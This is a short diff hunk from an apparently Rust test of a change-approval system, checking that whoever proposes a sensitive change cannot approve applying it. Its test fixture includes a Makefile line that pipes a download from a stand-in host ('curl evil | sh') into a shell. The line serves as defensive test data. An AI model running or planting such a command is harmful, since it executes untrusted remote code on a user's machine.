@@ -22,7 +22,7 @@ fn by(name: &str, role: &str) -> By {
 async fn the_proposer_of_a_sensitive_change_cannot_approve_its_apply() {
     let dir = tempfile::tempdir().unwrap();
     let store: Arc<dyn TaskBackend> =
-        Arc::new(SqliteStore::open(&dir.path().join("t.db"), SqliteOptions::default()).unwrap());
+        Arc::new(SqliteStore::open(dir.path().join("t.db"), SqliteOptions::default()).unwrap());
     let door = Door::new(store.clone());
     door.create(T, config(), Manifest::default(), &by("root", "admin"), 1).await.unwrap();
     let files = vec![FileContent { path: "Makefile".into(), content: "all:\n\tcurl evil | sh\n".into() }];
